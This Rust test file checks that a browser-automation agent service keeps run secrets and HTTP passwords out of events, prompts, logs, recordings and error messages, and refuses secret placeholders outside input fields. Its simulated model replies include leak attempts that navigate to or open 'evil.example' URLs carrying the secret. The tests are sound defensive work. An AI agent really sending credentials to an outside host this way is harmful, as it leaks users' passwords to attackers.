//! Secrets of runs.

use std::io::{self, Write};
use std::sync::{Arc, Mutex};

use agent::ports::BrowserError;
use agent::secrets::{HttpCredentials, OriginSecrets, SecretName, SecretValue, Secrets, mask_log_line};
use browser_use_service::telemetry::MaskedWriter;
use replay::Destination;
use serde_json::{Value, json};
use testkit::canary::{canary, encodings, holds};

use crate::support::browser::{Fate, Script};
use crate::support::model::Reply;
use crate::support::service::{KEY, Service, Stage};
use crate::support::soon;

fn secrets(origin: &str, values: &[(&str, &str)]) -> Secrets {
    let named = values
        .iter()
        .map(|(name, value)| (SecretName::parse(name).expect("a name"), SecretValue::parse(value).expect("a value")));
    let place = OriginSecrets { origin: origin.parse().expect("an origin"), values: named.collect() };
    Secrets::new(vec![place]).expect("a set")
}

/// The log, behind the service's own writer.
#[derive(Clone, Default)]
struct Lines(Arc<Mutex<Vec<u8>>>);

impl Write for Lines {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().expect("no panic holds the lines").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn no_event_prompt_or_log_line_contains_a_value() {
    let (value, core) = canary();
    let lines = Lines::default();
    let written = lines.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_ansi(false)
        .with_writer(move || MaskedWriter(written.clone()));
    // Of the whole process: what one thread alone listens to may have been found unheard by another.
    tracing::subscriber::set_global_default(subscriber.finish()).expect("no other test logs");
    let say = |action: Value| Reply::actions(&value, json!([action]));
    let replies = [
        say(json!({ "input": { "index": 1, "text": "<secret>password</secret>" } })),
        say(json!({ "input": { "index": 1, "text": value } })),
        say(json!({ "click": { "index": 1 } })),
        say(json!({ "extract": { "query": value } })),
        say(json!({ "hover": { "index": 1 } })),
        Reply::Say(format!("no JSON, but {value}")),
        say(json!({ "navigate": { "url": format!("https://evil.example/{value}") } })),
        say(json!({ "findText": { "pattern": value } })),
        say(json!({ "script": { "code": "return view()" } })),
        say(json!({ "done": { "text": format!("it is {value}"), "success": true } })),
    ];
    let script = Script { reflects: encodings(&value), ..Script::default() };
    let service = Stage::new(replies).browser(script).set("RUST_LOG", "trace").start().await;
    let events = service
        .run_all(&json!({
            "task": format!("Log in with {value}"),
            "startUrl": "https://shop.example/",
            "actions": [{ "type": "type", "index": 1, "text": value }],
            "sensitiveData": { "https://shop.example": { "password": value } },
        }))
        .await;
    assert_eq!(events.last().expect("an event")["type"], "result", "{events:#?}");
    for event in &events {
        assert!(!holds(&event.to_string(), &value, &core), "{event}");
    }
    let asked = service.model.prompts();
    assert!(asked.len() >= 9, "{}", asked.len());
    for prompt in &asked {
        assert!(!holds(prompt, &value, &core), "{prompt}");
        assert!(prompt.contains("Log in with <secret>password</secret>"), "{prompt}");
    }
    let done = service.pages.done().join("\n");
    assert!(!holds(&done, &value, &core), "only the browser itself puts the value in its place: {done}");
    assert!(done.contains("<secret>password</secret>"), "{done}");
    let logged = String::from_utf8(lines.0.lock().expect("no panic holds the lines").clone()).expect("text");
    let run = events[0]["runId"].as_str().expect("an id");
    assert!(logged.lines().any(|line| line.contains(run) && line.contains("run finished")), "{logged}");
    assert!(!holds(&logged, &value, &core) && !logged.contains(KEY), "{logged}");
}

#[tokio::test]
async fn a_held_run_keeps_no_secret() {
    let (value, asked) = (canary().0, canary().0);
    let ask = Reply::actions("ask", json!([{ "ask": { "prompt": "Pin?", "secret": true } }]));
    let service = Stage::new([ask, Reply::Hang]).start().await;
    let body = json!({ "task": "x", "detachSeconds": 60, "humanInput": true,
        "sensitiveData": { "https://shop.example": { "password": value } } });
    let events = service.run(&body).await;
    let id = events.run_id();
    let request = service.state(&id, "awaiting_input").await["inputRequest"]["requestId"].clone();
    service.steer(&id, "input", Some(json!({ "requestId": request, "input": asked }))).await;
    service.model.calls.reaches(2).await;
    // Log lines are masked as long as anything knows the values.
    let known = |value: &String| mask_log_line(value) != *value;
    assert!(known(&value) && known(&asked));
    service.steer(&id, "stop", None).await;
    events.collect().await;
    service.state(&id, "ended").await;
    let forgotten = async {
        while known(&value) || known(&asked) {
            tokio::task::yield_now().await;
        }
    };
    soon("the values to be forgotten", forgotten).await;
}

#[tokio::test]
async fn reports_of_lost_browsers_and_failures_contain_no_value() {
    let (value, core) = canary();
    let reflects = encodings(&value);
    let cause = || Fate::Fail(BrowserError::Protocol { cause: encodings(&value) });
    let none = Fate::Fail(BrowserError::NotStarted { cause: encodings(&value) });
    let first = Script { act: Fate::Fail(BrowserError::Lost), reflects: reflects.clone(), ..Script::default() };
    let again = [
        Script { visit: cause(), reflects: reflects.clone(), ..Script::default() },
        Script { open: none, reflects: reflects.clone(), ..Script::default() },
        first.clone(),
    ];
    let mut ends = Vec::new();
    for then in again {
        let replies = [Reply::click(1), Reply::click(1), Reply::done(&value)];
        let script = Script { then: Some(Box::new(then)), ..first.clone() };
        let service = Stage::new(replies).browser(script).start().await;
        let url = format!(
            "https://shop.example/?{}",
            url::form_urlencoded::byte_serialize(value.as_bytes()).collect::<String>()
        );
        let events = service
            .run_all(&json!({
                "task": "x",
                "startUrl": url,
                "files": [{ "name": format!("{core}.txt"), "content": "eA==" }],
                "sensitiveData": { "https://shop.example": { "password": value, "core": core } },
            }))
            .await;
        for told in events.iter().map(Value::to_string).chain(service.model.prompts()) {
            assert!(!holds(&told, &value, &core), "{told}");
        }
        let lost = events.iter().find(|event| event["level"] == "warning").expect("the loss is told");
        assert!(lost["message"].as_str().expect("a text").contains("from https://shop.example/"), "{lost}");
        let end = events.last().expect("an event");
        ends.push(end["code"].as_str().unwrap_or("result").to_owned());
    }
    assert_eq!(ends, ["result", "browser_unavailable", "browser_lost"]);
}

#[tokio::test]
async fn a_recording_contains_no_value() {
    let (value, core) = canary();
    let folder = tempfile::tempdir().expect("a folder");
    let replies = [
        Reply::actions(&value, json!([{ "input": { "index": 1, "text": "<secret>password</secret>" } }])),
        Reply::actions(&value, json!([{ "click": { "index": 1 } }, { "hover": { "index": 1 } }])),
        Reply::done(&value),
    ];
    let script = Script { reflects: encodings(&value), ..Script::default() };
    let recordings = Destination::folder(folder.path().to_owned()).expect("a folder");
    let (runs, _model, _pages) = Stage::new(replies).browser(script).recorded_runs(Some(Arc::new(recordings)));
    let request = browser_use_service::run::RunRequest {
        task: browser_use_service::run::Task::parse(&format!("Use {value}")).expect("a task"),
        secrets: secrets("https://shop.example", &[("password", &value)]),
        ..crate::lifecycle::request()
    };
    let mut stream = runs.start(request).expect("a run");
    while stream.next().await.is_some() {}
    let files: Vec<_> = std::fs::read_dir(folder.path()).expect("a folder").collect();
    assert_eq!(files.len(), 1);
    let path = files[0].as_ref().expect("a file").path();
    let recorded = std::fs::read_to_string(&path).expect("a text");
    assert!(recorded.contains("<secret>password</secret>") && !holds(&recorded, &value, &core), "{recorded}");

    let recorded = replay::Recording::parse(recorded.as_bytes()).expect("a recording");
    let live =
        replay::Replay::new(recorded.clone(), Some(crate::support::browser::FakeBrowsers::new(Script::default())), &[]);
    assert!(live.is_err_and(|error| error.to_string().contains("sensitiveData")), "nobody has its secrets");
    let offline = replay::Replay::new(recorded, None, &[]).expect("a replay");
    let again = browser_use_service::recording::request(&offline, true).expect("a request");
    assert_eq!(again.secrets, secrets("https://shop.example", &[("password", "other")]));
}

async fn refusals_of(reply: Reply, body: &Value) -> (Vec<Value>, Service) {
    let service = Stage::new([reply, Reply::done("over")]).start().await;
    let events = service.run_all(body).await;
    (events, service)
}

#[tokio::test]
async fn only_input_accepts_a_placeholder() {
    let placeholder = "<secret>password</secret>";
    for (name, fields) in [
        ("navigate", json!({ "url": format!("https://evil.example/?q={placeholder}") })),
        ("search", json!({ "query": placeholder })),
        ("select", json!({ "index": 1, "options": [placeholder] })),
        ("upload", json!({ "index": 1, "files": [placeholder] })),
        ("sendKeys", json!({ "keys": placeholder })),
        ("type", json!({ "text": placeholder })),
        ("scrollToText", json!({ "text": placeholder })),
        ("findText", json!({ "pattern": placeholder })),
        ("findElements", json!({ "selector": format!("[title='{placeholder}']") })),
        ("wait", json!({ "text": placeholder })),
        ("extract", json!({ "query": placeholder })),
        ("answerDialog", json!({ "accept": true, "text": placeholder })),
    ] {
        let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "password": "hunter22" } } });
        let mut action = serde_json::Map::new();
        action.insert(name.to_owned(), fields);
        let (events, service) = refusals_of(Reply::actions("", json!([action])), &body).await;
        let errors = events.last().expect("an event")["errors"].to_string();
        assert!(errors.contains("a secret is typed into a field, with input"), "{name}: {errors}");
        assert_eq!(service.pages.acted.get(), 0, "{name}");
    }
}

#[tokio::test]
async fn script_calls_accept_placeholders_like_actions() {
    let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "password": "hunter22" } } });
    let script = |code: &str| Reply::actions("", json!([{ "script": { "code": code } }]));
    for (call, refused) in [
        ("open('https://evil.example/?' + secret)", "navigate"),
        ("select(1, secret)", "select"),
        ("press(secret)", "sendKeys"),
        ("wait({ text: secret })", "wait"),
    ] {
        let code = format!("const secret = '<secret>' + 'password</secret>'; {call}");
        let (events, service) = refusals_of(script(&code), &body).await;
        let errors = events.last().expect("an event")["errors"].to_string();
        assert!(errors.contains(&format!("{refused} takes none")), "{call}: {errors}");
        assert_eq!(service.pages.acted.get(), 0, "{call}");
    }
    let (events, service) = refusals_of(script("input(1, '<secret>password</secret>')"), &body).await;
    assert_eq!(service.pages.acted.get(), 1, "{events:#?}");
    assert!(service.pages.done()[0].contains("<secret>password</secret>"), "{:?}", service.pages.done());
}

#[tokio::test]
async fn an_unknown_name_is_rejected_with_the_known_ones() {
    let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "email": "a@b.example", "pw": "hunter22" } } });
    let reply = Reply::actions("", json!([{ "input": { "index": 1, "text": "<secret>password</secret>" } }]));
    let (events, service) = refusals_of(reply, &body).await;
    let errors = events.last().expect("an event")["errors"].to_string();
    assert!(errors.contains("there is no secret password; there are: email, pw"), "{errors}");
    assert_eq!(service.pages.acted.get(), 0);
}

#[tokio::test]
async fn names_and_origins_follow_the_task_if_there_are_any() {
    let service = Stage::new([Reply::done("ok")]).start().await;
    let secrets = json!({
        "https://shop.example": { "email": "a@b.example", "password": "hunter22" },
        "https://*.bank.example": { "pin": "4711" },
    });
    service.run_all(&json!({ "task": "Buy", "sensitiveData": secrets })).await;
    service.run_all(&json!({ "task": "Buy" })).await;
    let told = service.model.tasks();
    let expected = "\n- https://shop.example: email, password\n- https://*.bank.example: pin\n";
    assert!(told[0].contains("Write <secret>name</secret>") && told[0].contains(expected), "{}", told[0]);
    assert!(!told[1].contains("ecret"), "{}", told[1]);
}

#[tokio::test]
async fn without_secrets_a_placeholder_is_plain_text() {
    let reply = Reply::actions("", json!([{ "sendKeys": { "keys": "<secret>password</secret>" } }]));
    let (_, service) = refusals_of(reply, &json!({ "task": "x", "sensitiveData": null })).await;
    assert_eq!(service.pages.acted.get(), 1);
}

#[tokio::test]
async fn an_invalid_secret_is_rejected_with_its_location_and_without_its_value() {
    let service = Stage::new([Reply::done("ok")]).start().await;
    let good = "https://shop.example";
    let many: serde_json::Map<_, _> = (0..51).map(|n| (format!("n{n}"), json!("abcd-value"))).collect();
    let origins: serde_json::Map<_, _> =
        (0..21).map(|n| (format!("https://a{n}.example"), json!({ "a": "abcd-value" }))).collect();
    for (secrets, place, kind) in [
        (json!([]), json!([]), "dict_type"),
        (json!("abcd-value"), json!([]), "dict_type"),
        (json!({ good: "abcd-value" }), json!([0]), "dict_type"),
        (json!({ "abcd-value": { "a": "abcd-value" } }), json!([0]), "value_error"),
        (json!({ "https://*": { "a": "abcd-value" } }), json!([0]), "value_error"),
        (json!({ "https://shop.example/login": { "a": "abcd-value" } }), json!([0]), "value_error"),
        (json!({ good: { "abcd value": "abcd-value" } }), json!([0, 0]), "value_error"),
        (json!({ good: { "a": 12345 } }), json!([0, 0]), "string_type"),
        (json!({ good: { "b": "abcd-value", "a": "abc" } }), json!([0, 1]), "string_too_short"),
        (json!({ good: { "a": format!("abcd-value{}", "x".repeat(1_024)) } }), json!([0, 0]), "string_too_long"),
        (json!({ good: { "a": "abcd-value\n" } }), json!([0, 0]), "value_error"),
        (json!({ good: { "a": "abcd-value<secret>" } }), json!([0, 0]), "value_error"),
        (json!({ good: { "my-abcd-value": "abcd-value" } }), json!([]), "value_error"),
        (json!({ good: { "a": { "totp": "abcd-value" } } }), json!([0, 0]), "value_error"),
        (json!({ good: { "a": { "totp": 7 } } }), json!([0, 0]), "string_type"),
        (json!({ good: { "a": { "totp": "JBSWY3DPEHPK3PXP", "abcd": 1 } } }), json!([0, 0]), "value_error"),
        (json!({ good: { "a": { "abcd": "JBSWY3DPEHPK3PXP" } } }), json!([0, 0]), "value_error"),
        (
            json!({ good: { "a": "abcd-value" }, "https://SHOP.example:443": { "a": "abcd-value" } }),
            json!([]),
            "value_error",
        ),
        (json!({ good: many }), json!([0]), "too_long"),
        (json!(origins), json!([]), "too_long"),
    ] {
        let response =
            service.post(&json!({ "task": "x", "sensitiveData": secrets })).send().await.expect("a response");
        assert_eq!(response.status(), 422, "{secrets}");
        let body: Value = response.json().await.expect("JSON");
        let mut expected = vec![json!("body"), json!("sensitiveData")];
        expected.extend(place.as_array().expect("a list").iter().cloned());
        assert_eq!((&body["detail"][0]["loc"], &body["detail"][0]["type"]), (&json!(expected), &json!(kind)), "{body}");
        assert!(!body.to_string().contains("abcd"), "nothing is repeated: {body}");
    }
    assert_eq!(service.pages.asked.get(), 0);
}

#[tokio::test]
async fn passwords_for_http_authentication_are_in_no_event_prompt_or_recording() {
    let (value, core) = canary();
    let folder = tempfile::tempdir().expect("a folder");
    let credentials = HttpCredentials::new(
        "https://ops.example".parse().expect("an origin"),
        "ada".into(),
        SecretValue::parse(&value).expect("a value"),
    );
    let script = Script { reflects: encodings(&value), ..Script::default() };
    let recordings = Destination::folder(folder.path().to_owned()).expect("a folder");
    let replies = [Reply::click(1), Reply::done(&value)];
    let (runs, model, _pages) = Stage::new(replies).browser(script).recorded_runs(Some(Arc::new(recordings)));
    let request = browser_use_service::run::RunRequest {
        secrets: Secrets::default().with_http_credentials(vec![credentials.expect("a user name")]).expect("a set"),
        ..crate::lifecycle::request()
    };
    let mut stream = runs.start(request).expect("a run");
    while let Some(event) = stream.next().await {
        assert!(!holds(&format!("{:?}", event.kind), &value, &core), "{:?}", event.kind);
    }
    for prompt in model.prompts() {
        assert!(!holds(&prompt, &value, &core) && !prompt.contains("Secrets, and"), "{prompt}");
    }
    let path = std::fs::read_dir(folder.path()).expect("a folder").next().expect("a file").expect("a file").path();
    let recorded = std::fs::read_to_string(path).expect("a text");
    assert!(recorded.contains(r#""httpCredentials":{"https://ops.example":"ada"}"#), "{recorded}");
    assert!(!holds(&recorded, &value, &core), "{recorded}");

    let recorded = replay::Recording::parse(recorded.as_bytes()).expect("a recording");
    let live =
        replay::Replay::new(recorded.clone(), Some(crate::support::browser::FakeBrowsers::new(Script::default())), &[]);
    assert!(live.is_err_and(|error| error.to_string().contains("httpCredentials")), "nobody has its passwords");
    let offline = replay::Replay::new(recorded, None, &[]).expect("a replay");
    let again = browser_use_service::recording::request(&offline, true).expect("a request");
    assert_eq!(again.secrets.http_credentials()[0].username(), "ada");
}

#[tokio::test]
async fn invalid_http_credentials_are_rejected_with_their_location_and_without_their_password() {
    let service = Stage::new([Reply::done("ok")]).start().await;
    let good = json!({ "origin": "https://ops.example", "username": "ada", "password": "abcd-value" });
    let with = |field: &str, value: Value| {
        let mut one = good.clone();
        one[field] = value;
        json!({ "httpCredentials": [one] })
    };
    for (browser, place, kind) in [
        (json!([]), json!([]), "dict_type"),
        (json!({ "httpCredentials": {} }), json!(["httpCredentials"]), "list_type"),
        (json!({ "httpCredentials": ["abcd-value"] }), json!(["httpCredentials", 0]), "dict_type"),
        (json!({ "httpCredentials": [{}] }), json!(["httpCredentials", 0, "origin"]), "missing"),
        (json!({ "httpCredentials": vec![&good; 21] }), json!(["httpCredentials"]), "too_long"),
        (json!({ "httpCredentials": [&good, &good] }), json!(["httpCredentials", 1, "origin"]), "value_error"),
        (with("origin", json!("ftp://ops.example")), json!(["httpCredentials", 0, "origin"]), "value_error"),
        (with("origin", json!("https://ops.example/admin")), json!(["httpCredentials", 0, "origin"]), "value_error"),
        (with("origin", json!("https://*.ops.example")), json!(["httpCredentials", 0, "origin"]), "value_error"),
        (
            with("origin", json!("https://ada:abcd-value@ops.example")),
            json!(["httpCredentials", 0, "origin"]),
            "value_error",
        ),
        (with("username", json!("a:da")), json!(["httpCredentials", 0, "username"]), "value_error"),
        (with("password", json!("abc")), json!(["httpCredentials", 0, "password"]), "string_too_short"),
        (with("password", json!(12345)), json!(["httpCredentials", 0, "password"]), "string_type"),
    ] {
        let response = service.post(&json!({ "task": "x", "browser": browser })).send().await.expect("a response");
        assert_eq!(response.status(), 422, "{browser}");
        let body: Value = response.json().await.expect("JSON");
        let mut expected = vec![json!("body"), json!("browser")];
        expected.extend(place.as_array().expect("a list").iter().cloned());
        assert_eq!((&body["detail"][0]["loc"], &body["detail"][0]["type"]), (&json!(expected), &json!(kind)), "{body}");
        assert!(!body.to_string().contains("abcd"), "nothing is repeated: {body}");
    }
    let both = json!({ "task": "x", "browser": { "httpCredentials": [good] },
                       "sensitiveData": { "https://ops.example": { "abcd-value": "another" } } });
    let response = service.post(&both).send().await.expect("a response");
    let body: Value = response.json().await.expect("JSON");
    assert_eq!(body["detail"][0]["loc"], json!(["body", "sensitiveData"]), "a name that holds a password: {body}");
    assert_eq!(service.pages.asked.get(), 0);
}
